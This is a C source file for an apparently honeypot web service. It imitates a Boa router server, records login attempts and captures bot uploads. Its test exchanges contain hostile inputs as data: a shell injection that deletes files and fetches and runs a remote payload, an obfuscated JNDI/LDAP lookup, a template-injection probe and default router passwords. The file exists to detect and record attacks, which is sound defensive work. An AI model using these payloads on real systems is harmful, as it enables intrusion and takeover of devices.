/*
 * The web server of a device: login pages, a tolerant parser, upload capture.
 *
 * What it serves is the persona's (etc/personas); how it talks, down to the words of
 * a 404 and the order of the fields, is that of the server which the persona names
 * (passive/services/http/dialect.c).  Credentials are taken from Basic, Digest, forms and
 * query strings.  Commands that bots hide in requests are recorded with the files
 * they would fetch; nothing is run and nothing is fetched.
 */
#include "base/options.h"
#include "passive/services/http/http.h"
#include "passive/relay/relay.h"

#define INPUT_MAX 16384
#define REQUESTS_MAX 100 /* on one connection */
#define UPLOAD_MAX "256K"

_Static_assert(sizeof(struct http) <= 512, "one idle connection costs little");

/* Without a persona: an access point with a Realtek SDK, which is Boa and two pages. */
static const struct persona_credential plain_credentials[] = {
	{BYTES("admin"), BYTES("admin")},
	{BYTES("admin"), BYTES("1234")},
};

static const struct persona_header plain_moved[] = {{"Location", BYTES("/admin/login.asp")}};

static const struct persona_page plain_pages[] = {
	{.path = "/",
	 .status = 200,
	 .locked = true,
	 .body = BYTES("<html><head><title>Wireless Router</title></head>\n"
		       "<body>MAC %{mac}</body></html>\n")},
	{.path = "/admin/login.asp",
	 .status = 200,
	 .body = BYTES(
		 "<html><head><title>Login</title></head><body>\n"
		 "<form action=/boaform/admin/formLogin method=POST>\n"
		 "<input name=username><input type=password name=psd></form></body></html>\n")},
	{.path = "/style.css", .status = 200, .body = BYTES("body { margin: 0 }\n")},
	{.path = "/index.htm", .status = 302, .headers = plain_moved, .header_count = 1},
};

static const struct persona plain_device = {
	.name = "plain",
	.summary = "",
	.hostname = "rtl8196",
	.machine = "mips",
	.kernel = "2.6.30.9",
	.kernel_build = "#1",
	.busybox = "v1.13.4",
	.busybox_date = "",
	.prompt = "# ",
	.home = "/",
	.memory_kb = 27888,
	.interface = "br0",
	.mac_prefix = "00:E0:4C",
	.credentials = plain_credentials,
	.credential_count = sizeof plain_credentials / sizeof *plain_credentials,
	.http =
		{
			.server = "Boa/0.94.14rc21",
			.realm = "Wireless Router",
			.login = {.path = "/boaform/admin/formLogin",
				  .user = "username",
				  .secret = "psd",
				  .accepted = "/",
				  .refused = "/admin/login.asp",
				  .cookie = "SID"},
			.pages = plain_pages,
			.page_count = sizeof plain_pages / sizeof *plain_pages,
		},
};

struct turn http_begin_turn(struct session *s, struct http *http)
{
	const struct persona *p = session_persona(s);
	if (!p || p->http.page_count == 0)
		p = &plain_device;
	const struct http_options *o = session_options(s);
	struct turn t = {
		.session = s,
		.crawlers = o ? &o->crawlers : NULL,
		.persona = p,
		.dialect = dialect_of(p->http.server),
		.request = &http->request,
		.head = {http->head, http->head_len},
		.body = &http->body,
		.login_mark = &http->login_mark,
		.shell = &http->shell,
	};
	persona_look(p, session_device_seed(s), session_local(s), session_time_us(s), &t.look);
	return t;
}

bool http_keep_head(struct session *s, struct http *http, struct bytes head)
{
	if (http->head_room < head.len) {
		size_t room = http->head_room ? http->head_room : 256;
		while (room < head.len)
			room *= 2;
		uint8_t *grown = arena_alloc(session_arena(s), room);
		if (!grown)
			return false;
		http->head = grown;
		http->head_room = room;
	}
	memcpy(http->head, head.at, head.len);
	http->head_len = head.len;
	request_parse((struct bytes){http->head, head.len}, &http->request);
	return true;
}

/* A request that cannot be understood or held is answered as the server would, and ends. */
static enum service_next refuse(struct session *s, struct http *http, unsigned status)
{
	struct turn t = http_begin_turn(s, http);
	http->phase = HTTP_AT_HEAD;
	turn_refuse(&t, status ? status : 400);
	turn_record(&t);
	return SERVICE_CLOSE;
}

/* The request waits for a backend that is to answer it, and all that come. */
static bool hand_over(struct session *s, struct http *http, enum backend_after after, const struct turn *t)
{
	const struct backend *b = session_backend(s);
	bool whole = !http->request.malformed && !http->body.cut;
	if (http->relay != HTTP_OWN || !b || b->after != (int)after || !whole || !http_relay_ask(s, http))
		return false;
	http->waiting = (struct http_waiting){true, t->authorized, t->logged_in, t->cookie, t->page_path};
	return true;
}

static enum service_next answer(struct session *s, struct http *http)
{
	struct turn t = http_begin_turn(s, http);
	size_t before = session_said(s);
	http->phase = HTTP_AT_HEAD;
	http->scanned = 0;
	http->requests++;
	if (!http->request.malformed)
		turn_log_in(&t);
	if (t.authorized && hand_over(s, http, BACKEND_LOGIN, &t))
		return SERVICE_CONTINUE;
	bool stays = turn_answer(&t, REQUESTS_MAX - http->requests);
	if (t.status == 404 && hand_over(s, http, BACKEND_UNKNOWN, &t)) {
		session_unsay(s, before);
		return SERVICE_CONTINUE;
	}
	turn_record(&t);
	return stays ? SERVICE_CONTINUE : SERVICE_CLOSE;
}

/* There is no backend after all: what waits for it is answered by the emulator. */
static enum service_next answer_alone(struct session *s, struct http *http)
{
	struct turn t = http_begin_turn(s, http);
	struct http_waiting w = http->waiting;
	http->relay = HTTP_ALONE;
	http->waiting.is = false;
	session_relay_end(s);
	session_delay_over(s);
	if (!w.is)
		return SERVICE_CONTINUE;
	t.authorized = w.authorized;
	t.logged_in = w.logged_in;
	t.cookie = w.cookie;
	t.page_path = w.page_path;
	bool stays = turn_answer(&t, REQUESTS_MAX - http->requests);
	turn_record(&t);
	return stays ? SERVICE_CONTINUE : SERVICE_CLOSE;
}

static enum service_next http_tick(struct session *s, void *state)
{
	struct http *http = state;
	return http->relay == HTTP_ASKED ? answer_alone(s, http) : SERVICE_CONTINUE;
}

static enum service_next http_relayed(struct session *s, void *state, enum relay_event what, struct bytes came)
{
	struct http *http = state;
	if (what == RELAY_CAME) {
		http_relay_answer(s, http, came);
		return SERVICE_CONTINUE;
	}
	if (what == RELAY_ENDED)
		return http->relay == HTTP_ASKED ? answer_alone(s, http) : SERVICE_CLOSE;
	session_relay_begins(s);
	if (http->waiting.is) {
		http->waiting.is = false;
		http->cookie = http->waiting.logged_in ? http->waiting.cookie : NULL;
		http_relay_whole(s, http);
		struct turn t = http_begin_turn(s, http);
		turn_record(&t);
	}
	http->relay = HTTP_RELAYED;
	return SERVICE_CONTINUE;
}

static void say_continue(struct session *s, const struct http *http)
{
	const struct persona *p = session_persona(s);
	const char *server = p && p->http.page_count ? p->http.server : plain_device.http.server;
	const struct request *r = &http->request;
	if (r->expects_continue && r->version == HTTP_1_1 && dialect_of(server)->continues)
		session_say(s, "HTTP/1.1 100 Continue\r\n\r\n");
}

/* Takes a whole head off the input; false when more must come or the session is over. */
static bool take_head(struct session *s, struct http *http, struct reader *in,
		      enum service_next *next)
{
	struct bytes unread = {in->at, reader_left(in)};
	size_t n = request_head_length(unread, &http->scanned);
	bool whole = n && n <= HTTP_HEAD_MAX;
	*next = SERVICE_CONTINUE;
	if (!whole && unread.len < HTTP_HEAD_MAX)
		return false;
	bool kept = http_keep_head(s, http, read_bytes(in, whole ? n : HTTP_HEAD_MAX));
	body_begin(&http->body, &http->request);
	if (!whole || !kept) {
		*next = refuse(s, http,
			       dialect_of(http_begin_turn(s, http).persona->http.server)->long_target);
		return false;
	}
	http->phase = HTTP_AT_BODY;
	if (http->request.length || http->request.chunked)
		say_continue(s, http);
	return true;
}

static enum service_next http_input(struct session *s, void *state, struct reader *in)
{
	struct http *http = state;
	const struct http_options *options = session_options(s);
	const struct backend *b = session_backend(s);
	enum service_next next = SERVICE_CONTINUE;
	if (b && b->after == BACKEND_ALWAYS && http->relay == HTTP_OWN && http_relay_ask(s, http))
		return next;
	if (http->relay == HTTP_RELAYED || http->relay == HTTP_BLIND)
		return http_relay_input(s, http, in);
	while (next == SERVICE_CONTINUE && http->relay != HTTP_ASKED) {
		if (http->phase == HTTP_AT_HEAD && !take_head(s, http, in, &next))
			return next;
		/* What breaks the head's own rules has no body that could be told from a request.
		 */
		enum body_next body =
			http->request.malformed
				? BODY_DONE
				: body_feed(&http->body, session_arena(s), options->upload_max, in);
		if (body == BODY_MORE)
			return SERVICE_CONTINUE;
		next = body == BODY_BAD ? refuse(s, http, 400) : answer(s, http);
	}
	return next;
}

/* A body that never came whole is evidence too. */
static void http_close(struct session *s, void *state)
{
	struct http *http = state;
	if (http->phase == HTTP_AT_BODY || http->waiting.is) {
		struct turn t = http_begin_turn(s, http);
		turn_record(&t);
	}
	if (http->shell)
		command_finish(s, http->shell);
}

/* Conversations read as they go over the wire. */
/* clang-format off */
#define BOA_DATE "Date: Wed, 01 Apr 2015 00:00:00 GMT\r\nServer: Boa/0.94.14rc21\r\nAccept-Ranges: bytes\r\n"
#define BOA_CLOSE BOA_DATE "Connection: close\r\n"
#define BOA_HTML "Content-Type: text/html; charset=ISO-8859-1\r\n"
#define BOA_PAGE(status, text)                                                                    \
	"<HTML><HEAD><TITLE>" status "</TITLE></HEAD>\n<BODY><H1>" status "</H1>\n" text          \
	"\n</BODY></HTML>\n"
#define BOA_401                                                                                   \
	"401 Unauthorized\r\n" BOA_CLOSE "WWW-Authenticate: Basic realm=\"Wireless Router\"\r\n"  \
	BOA_HTML "\r\n"                                                                            \
	BOA_PAGE("401 Unauthorized",                                                               \
		 "Your client does not have permission to get URL / from this server.")
#define BOA_404(path)                                                                             \
	"404 Not Found\r\n" BOA_CLOSE BOA_HTML "\r\n"                                             \
	BOA_PAGE("404 Not Found", "The requested URL " path " was not found on this server.")
#define BOA_400                                                                                   \
	"HTTP/1.0 400 Bad Request\r\n" BOA_CLOSE BOA_HTML "\r\n"                                  \
	BOA_PAGE("400 Bad Request", "Your client has issued a malformed or illegal request.")
#define BOA_501                                                                                   \
	"501 Not Implemented\r\n" BOA_CLOSE BOA_HTML "\r\n"                                       \
	BOA_PAGE("501 Not Implemented", "POST to non-script is not supported in Boa.")
#define CSS_HEAD(version, connection)                                                             \
	version " 200 OK\r\n" BOA_DATE connection "Content-Length: 19\r\n"                        \
	"Last-Modified: Thu, 28 Mar 2013 10:02:48 GMT\r\nContent-Type: text/css\r\n\r\n"
#define CSS "body { margin: 0 }\n"

static const struct exchange http_exchanges[] = {
	{"a locked page asks for a password",
	 BYTES("GET / HTTP/1.0\r\n\r\n"),
	 BYTES("HTTP/1.0 " BOA_401),
	 "{\"kind\":\"request.seen\",\"request.method\":\"GET\",\"request.target\":\"/\",\"status\":401}"},
	{"bare line feeds, no Host, folded fields",
	 BYTES("GET /nothing HTTP/1.1\nUser-Agent: a\n b\nHost: x\n\n"),
	 BYTES("HTTP/1.1 " BOA_404("/nothing")),
	 "{\"request.agent\":\"a\\n b\",\"request.host\":\"x\",\"status\":404,\"http.version\":\"1.1\"}"},
	{"HTTP/0.9 gets the page alone",
	 BYTES("GET /style.css\r\n"),
	 BYTES(CSS),
	 "{\"request.target\":\"/style.css\",\"status\":200,\"http.version\":\"0.9\"}"},
	{"HEAD, and requests in one packet on a connection that stays",
	 BYTES("HEAD /style.css HTTP/1.1\r\nHost: a\r\n\r\n"
	       "GET /style.css HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
	 BYTES(CSS_HEAD("HTTP/1.1", "Connection: Keep-Alive\r\nKeep-Alive: timeout=10, max=99\r\n")
	       CSS_HEAD("HTTP/1.1", "Connection: close\r\n") CSS),
	 "{\"request.method\":\"HEAD\",\"status\":200}\n{\"request.method\":\"GET\",\"status\":200}"},
	{"a Basic password is recorded, and what is not a path is quoted",
	 BYTES("GET /<b> HTTP/1.0\r\nAuthorization: Basic YWRtaW46eGMzNTEx\r\n\r\n"),
	 BYTES("HTTP/1.0 " BOA_404("/&lt;b&gt;")),
	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"xc3511\","
	 "\"login.accepted\":false,\"http.login\":\"basic\"}\n{\"status\":404}"},
	{"the default password opens",
	 BYTES("GET / HTTP/1.0\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
	 BYTES("HTTP/1.0 200 OK\r\n" BOA_CLOSE "Content-Type: text/html\r\n\r\n"
	       "<html><head><title>Wireless Router</title></head>\n<body>MAC 00:E0:4C:88:1D:81</body></html>\n"),
	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.accepted\":true}\n{\"status\":200}"},
	{"a form is read, %XX and + decoded",
	 BYTES("POST /boaform/admin/formLogin HTTP/1.0\r\nContent-Length: 27\r\n\r\nusername=adm%69n&psd=a+b%21"),
	 BYTES("HTTP/1.0 200 OK\r\n" BOA_CLOSE "Content-Type: text/html\r\n\r\n"
	       "<html><head><title>Login</title></head><body>\n"
	       "<form action=/boaform/admin/formLogin method=POST>\n"
	       "<input name=username><input type=password name=psd></form></body></html>\n"),
	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"a b!\","
	 "\"login.accepted\":false,\"http.login\":\"form\"}\n{\"request.method\":\"POST\",\"status\":200}"},
	{"commands in a parameter, and the file they would fetch",
	 BYTES("GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
	       "User-Agent: Hello, world\r\nHost: 192.0.2.23:80\r\n\r\n"),
	 BYTES("HTTP/1.1 " BOA_404("/shell")),
	 "{\"kind\":\"request.seen\",\"request.agent\":\"Hello, world\",\"http.injection\":"
	 "\"cd /tmp;rm -rf *;wget http://198.51.100.9/jaws;sh /tmp/jaws\"}\n"
	 "{\"kind\":\"file.captured\",\"file.url\":\"http://198.51.100.9/jaws\",\"file.name\":\"jaws\","
	 "\"file.how\":\"wget\"}"},
	{"a file in a form's part",
	 BYTES("POST /upgrade.cgi HTTP/1.0\r\nContent-Type: multipart/form-data; boundary=xx\r\n"
	       "Content-Length: 81\r\n\r\n--xx\r\nContent-Disposition: form-data; name=\"f\"; "
	       "filename=\"a.bin\"\r\n\r\nabc\r\n--xx--\r\n"),
	 BYTES("HTTP/1.0 " BOA_404("/upgrade.cgi")),
	 "{\"kind\":\"request.seen\",\"http.length\":81}\n"
	 "{\"kind\":\"file.captured\",\"file.name\":\"a.bin\",\"file.size\":3,\"file.how\":\"upload\"}"},
	{"PUT in chunks leaves a file",
	 BYTES("PUT /a/b.sh HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
	       "3;x=y\r\nabc\r\n2\r\nde\r\n0\r\nT: 1\r\n\r\n"),
	 BYTES("HTTP/1.1 " BOA_501),
	 "{\"request.method\":\"PUT\",\"request.body\":\"abcde\",\"status\":501}\n"
	 "{\"kind\":\"file.captured\",\"file.name\":\"b.sh\",\"file.size\":5}"},
	{"what is no request", BYTES("HELP\r\n"), BYTES(BOA_400), "{\"request.method\":\"HELP\",\"status\":400}"},
	{"only line ends", BYTES("\r\n\r\n"), BYTES(BOA_400), "{\"status\":400}"},
	{"another protocol", BYTES("OPTIONS / RTSP/1.0\r\n\r\n"), BYTES(BOA_400), "{\"status\":400}"},
	{"two lengths that differ",
	 BYTES("POST / HTTP/1.0\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc"), BYTES(BOA_400),
	 "{\"status\":400}"},
	{"a lookup whose letters are hidden, in a field that nobody reads",
	 BYTES("GET /style.css HTTP/1.0\r\nX-Api-Version: ${${lower:j}n${::-d}i:ldap://198.51.100.9:1389/a}\r\n\r\n"),
	 BYTES(CSS_HEAD("HTTP/1.0", "Connection: close\r\n") CSS),
	 "{\"kind\":\"request.seen\",\"http.lookup\":\"jndi:ldap://198.51.100.9:1389/a\"}\n"
	 "{\"kind\":\"file.captured\",\"file.url\":\"ldap://198.51.100.9:1389/a\",\"file.how\":\"jndi\"}"},
	{"an expression for a template engine",
	 BYTES("GET /style.css?name=%7B%7B7*7%7D%7D HTTP/1.0\r\n\r\n"),
	 BYTES(CSS_HEAD("HTTP/1.0", "Connection: close\r\n") CSS),
	 "{\"kind\":\"request.seen\",\"http.template\":\"{{7*7}}\"}"},
	{"a redirect",
	 BYTES("GET http://device/index.htm HTTP/1.0\r\n\r\n"),
	 BYTES("HTTP/1.0 302 Moved Temporarily\r\n" BOA_CLOSE BOA_HTML "Location: /admin/login.asp\r\n\r\n"
	       "<HTML><HEAD><TITLE>302 Moved Temporarily</TITLE></HEAD>\n<BODY>\n"
	       "<H1>302 Moved</H1>The document has moved\n<A HREF=\"/admin/login.asp\">here</A>.\n"
	       "</BODY></HTML>\n"),
	 "{\"request.host\":\"device\",\"request.target\":\"http://device/index.htm\",\"status\":302}"},
	{"a search engine's crawler, by its own word",
	 BYTES("GET /style.css HTTP/1.0\r\nUser-Agent: Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
	       "\r\n\r\n"),
	 BYTES(CSS_HEAD("HTTP/1.0", "Connection: close\r\n") CSS),
	 "{\"kind\":\"request.seen\",\"http.crawler\":\"claimed\"}"},
	{"a body that breaks off is kept",
	 BYTES("PUT /x HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nabc"), BYTES(""),
	 "{\"request.method\":\"PUT\",\"request.body\":\"abc\",\"http.length\":3}\n{\"file.size\":3}"},
	{0},
};

/* clang-format on */

static const struct option http_options[] = {
	{.name = "upload_max",
	 .type = OPTION_SIZE,
	 .offset = offsetof(struct http_options, upload_max),
	 .fallback = UPLOAD_MAX,
	 .min = 0,
	 .max = 1u << 20,
	 .summary = "bytes kept of a request's body; the rest is counted only"},
	{.name = "crawlers",
	 .type = OPTION_LIST,
	 .element = OPTION_MAP,
	 .fields = crawler_options,
	 .size = sizeof(struct crawler),
	 .offset = offsetof(struct http_options, crawlers),
	 .summary = "search engines whose addresses are known: http.crawler then says verified and not claimed"},
	{0},
};

/* A method (RFC 9110 9.1) and a space. */
static bool http_claims(struct bytes first)
{
	static const char *const methods[] = {"GET ", "POST ", "HEAD ", "PUT ", "OPTIONS ", "DELETE ", "PATCH ", "TRACE "};
	for (size_t i = 0; i < sizeof methods / sizeof *methods; i++)
		if (bytes_start_with(first, methods[i]))
			return true;
	return false;
}

static const struct service http = {
	.name = "http",
	.summary = "web server of a device: login pages, uploads, attacks on CGIs",
	.reference = "RFC 9112, RFC 7617, RFC 7616, RFC 7578; servers in passive/services/http/dialect.c",
	.transports = TRANSPORT_TCP,
	.ports = {80, 8080, 81},
	.secure_ports = {443, 8443},
	.alpn = "http/1.1",
	.state_size = sizeof(struct http),
	.input_max = INPUT_MAX,
	.output_max = 1u << 18,
	.arena_max = 3u << 20,
	.idle_ms_max = 60000,
	.session_ms_max = 600000,
	.options = http_options,
	.options_size = sizeof(struct http_options),
	.input = http_input,
	.tick = http_tick,
	.relayed = http_relayed,
	.claims = http_claims,
	.close = http_close,
	.exchanges = http_exchanges,
};
SERVICE(http);
